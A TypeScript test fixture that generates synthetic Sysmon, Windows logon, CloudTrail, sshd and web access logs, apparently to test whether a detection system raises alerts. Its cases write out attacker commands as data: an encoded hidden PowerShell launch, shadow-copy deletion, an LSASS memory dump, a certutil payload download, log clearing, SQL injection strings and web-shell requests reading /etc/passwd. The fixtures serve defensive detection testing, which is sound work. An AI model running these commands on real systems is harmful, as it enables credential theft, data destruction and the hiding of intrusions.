import { holding, type Planted } from "../surfaces/surface.ts";
import { type BaseCase, type Label, linesOf } from "./base-case.ts";

const startMs = Date.UTC(2026, 2, 9, 10, 11, 12);
const isoAt = (seconds: number) => new Date(startMs + seconds * 1_000).toISOString();

const started = (id: string, label: Label, image: string, command: string, parent = "C:\\Windows\\explorer.exe"): BaseCase => ({
  id: `process/${id}`,
  trade: "sysmon",
  label,
  surfaces: ["command-line", "file-name", "user-name"],
  world: (planted) => ({
    evidence: [
      {
        path: "sysmon.json",
        text: linesOf([
          processEvent({ image, command: holding(planted, "command-line", command), parent, user: "EXAMPLE\\nadia" }),
          fileEvent(planted),
        ]),
      },
    ],
  }),
});

const common = { Channel: "Microsoft-Windows-Sysmon/Operational", Hostname: "WS-118.example.test", SourceName: "Microsoft-Windows-Sysmon" };

const processEvent = (of: { image: string; command: string; parent: string; user: string }) => ({
  "@timestamp": isoAt(0),
  EventID: 1,
  ...common,
  Image: of.image,
  CommandLine: of.command,
  ParentImage: of.parent,
  ParentCommandLine: of.parent,
  User: of.user,
  ProcessGuid: "{11111111-0000-0000-0000-000000000001}",
  ProcessId: 4_242,
});

const fileEvent = (planted: Planted) => ({
  "@timestamp": isoAt(3),
  EventID: 11,
  ...common,
  Image: "C:\\Windows\\explorer.exe",
  TargetFilename: holding(planted, "file-name", "C:\\Users\\nadia\\Documents\\notes.txt"),
  User: `EXAMPLE\\${holding(planted, "user-name", "visitor-3", "-")}`,
});

const logons = (id: string, label: Label, failures: number, success: boolean): BaseCase => ({
  id: `logon/${id}`,
  trade: "windows",
  label,
  surfaces: ["host-name", "user-name"],
  world: (planted) => ({
    evidence: [
      {
        path: "security.json",
        text: linesOf([
          ...Array.from({ length: failures }, (_, at) => logonEvent(4625, at, planted)),
          ...(success ? [logonEvent(4624, failures, planted)] : []),
        ]),
      },
    ],
  }),
});

const logonEvent = (EventID: number, seconds: number, planted: Planted) => ({
  "@timestamp": isoAt(seconds),
  EventID,
  Channel: "Security",
  Hostname: "FS-1.example.test",
  SourceName: "Microsoft-Windows-Security-Auditing",
  TargetUserName: holding(planted, "user-name", "visitor-3", "-"),
  TargetDomainName: "EXAMPLE",
  WorkstationName: holding(planted, "host-name", "VISITOR-PC", "-"),
  IpAddress: "198.51.100.61",
  LogonType: 3,
  Status: EventID === 4625 ? "0xc000006d" : "0x0",
  SubStatus: "0xc000006a",
  AuthenticationPackageName: "NTLM",
});

type Call = readonly [source: string, name: string, parameters: object];

const cloud = (id: string, label: Label, calls: readonly Call[]): BaseCase => ({
  id: `cloud/${id}`,
  trade: "cloudtrail",
  label,
  surfaces: ["user-agent", "resource-tag", "user-name"],
  world: (planted) => ({
    evidence: [
      {
        path: "trail.json",
        text: JSON.stringify({
          Records: calls.map(([eventSource, eventName, parameters], at) => ({
            eventVersion: "1.09",
            userIdentity: { type: "IAMUser", arn: "arn:aws:iam::111122223333:user/deploy", userName: "deploy", accountId: "111122223333" },
            eventTime: isoAt(at * 40).replace(/\.\d+Z/, "Z"),
            eventSource,
            eventName,
            awsRegion: "eu-central-1",
            sourceIPAddress: "198.51.100.7",
            userAgent: holding(planted, "user-agent", "aws-cli/2.15"),
            requestParameters: {
              ...parameters,
              userName: holding(planted, "user-name", "backup-2", "-"),
              tagSet: [{ key: "purpose", value: holding(planted, "resource-tag", "nightly") }],
            },
            eventID: `event-${at}`,
            eventType: "AwsApiCall",
          })),
        }),
      },
    ],
  }),
});

const vis = (text: string) =>
  text.replace(/[^\x20-\x7e]/gu, (mark) =>
    [...new TextEncoder().encode(mark)].map((byte) => `\\${byte.toString(8).padStart(3, "0")}`).join(""),
  );

const secureShell = (id: string, label: Label, failures: number, success: boolean): BaseCase => ({
  id: `ssh/${id}`,
  trade: "syslog",
  label,
  surfaces: ["user-name"],
  // The daemon writes what it is told in the manner of vis(3): one line stays one line.
  world: (planted) => {
    const user = vis(holding(planted, "user-name", "guest", "-"));
    const line = (seconds: number, says: string) =>
      `Mar  9 10:${String(11 + Math.floor(seconds / 60)).padStart(2, "0")}:${String(seconds % 60).padStart(2, "0")} web01 sshd[1201]: ${says}\n`;
    const failed = Array.from({ length: failures }, (_, at) =>
      line(at * 2, `Failed password for invalid user ${user} from 198.51.100.7 port ${40_000 + at} ssh2`),
    );
    const accepted = success ? [line(failures * 2 + 1, "Accepted password for deploy from 198.51.100.7 port 50222 ssh2")] : [];
    return { evidence: [{ path: "auth.log", text: [...failed, ...accepted].join("") }] };
  },
});

const access = (id: string, label: Label, requests: readonly string[]): BaseCase => ({
  id: `web/${id}`,
  trade: "access-log",
  label,
  surfaces: ["url", "user-agent"],
  // The server writes what is no printable character as \xNN, and a quotation mark behind a backslash.
  world: (planted) => ({
    evidence: [
      {
        path: "access.log",
        text: requests
          .map((request, at) => {
            const agent = logged(holding(planted, "user-agent", "Mozilla/5.0 (X11; Linux x86_64)"));
            const url = logged(holding(planted, "url", request, request.includes("?") ? "&q=" : "?q=")).replaceAll(" ", "%20");
            return `198.51.100.7 - - [09/Mar/2026:10:11:${String(at % 60).padStart(2, "0")} +0000] "GET ${url} HTTP/1.1" 200 5120 "-" "${agent}"\n`;
          })
          .join(""),
      },
    ],
  }),
});

const logged = (text: string) =>
  text
    .replaceAll("\\", "\\\\")
    .replaceAll('"', '\\"')
    .replace(/[^\x20-\x7e]/gu, (mark) =>
      [...new TextEncoder().encode(mark)].map((byte) => `\\x${byte.toString(16).padStart(2, "0")}`).join(""),
    );

function processCases(): BaseCase[] {
  const system = "C:\\Windows\\System32";
  const shell = `${system}\\WindowsPowerShell\\v1.0\\powershell.exe`;
  return [
    started(
      "encoded-command",
      "escalated",
      shell,
      "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    ),
    started("shadow-copies", "escalated", `${system}\\vssadmin.exe`, "vssadmin delete shadows /all /quiet", `${system}\\cmd.exe`),
    started(
      "memory-dump",
      "escalated",
      `${system}\\rundll32.exe`,
      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
    ),
    started(
      "download",
      "escalated",
      `${system}\\certutil.exe`,
      "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe",
      `${system}\\cmd.exe`,
    ),
    started("task", "either", `${system}\\schtasks.exe`, "schtasks /create /tn upd /tr C:\\Users\\Public\\u.exe /sc minute /ru SYSTEM"),
    started("log-cleared", "escalated", `${system}\\wevtutil.exe`, "wevtutil cl Security", `${system}\\cmd.exe`),
    started("browser", "closed", "C:\\Program Files\\Browser\\browser.exe", "browser.exe --profile default"),
    started("notepad", "closed", `${system}\\notepad.exe`, "notepad.exe C:\\Users\\nadia\\Documents\\notes.txt"),
    started("installer", "closed", `${system}\\msiexec.exe`, "msiexec.exe /i C:\\Install\\office.msi /qn"),
  ];
}

/** Cases that our own detection raises from logs, and ordinary logs from which it should raise nothing. */
export function logCases(): BaseCase[] {
  return [
    ...processCases(),
    logons("spray", "either", 24, true),
    logons("mistyped", "closed", 3, true),
    cloud("trail-stopped", "escalated", [
      ["cloudtrail.amazonaws.com", "StopLogging", { name: "main" }],
      ["iam.amazonaws.com", "CreateAccessKey", {}],
      ["iam.amazonaws.com", "AttachUserPolicy", { policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" }],
    ]),
    cloud("bucket-opened", "either", [["s3.amazonaws.com", "PutBucketAcl", { bucketName: "orders", "x-amz-acl": "public-read" }]]),
    cloud("looked", "closed", [
      ["ec2.amazonaws.com", "DescribeInstances", {}],
      ["s3.amazonaws.com", "ListBuckets", {}],
    ]),
    secureShell("guessed", "either", 40, true),
    secureShell("tried", "either", 12, false),
    secureShell("ordinary", "closed", 1, true),
    access("injection", "either", [
      "/index.php?id=1%20UNION%20SELECT%201,2,3",
      "/index.php?id=1%27%20OR%20%271%27=%271",
      "/index.php?id=sleep(5)",
    ]),
    access("shell", "either", ["/uploads/a.php?cmd=whoami", "/uploads/a.php?cmd=cat%20/etc/passwd"]),
    access("visitor", "closed", ["/", "/style.css", "/orders"]),
  ];
}
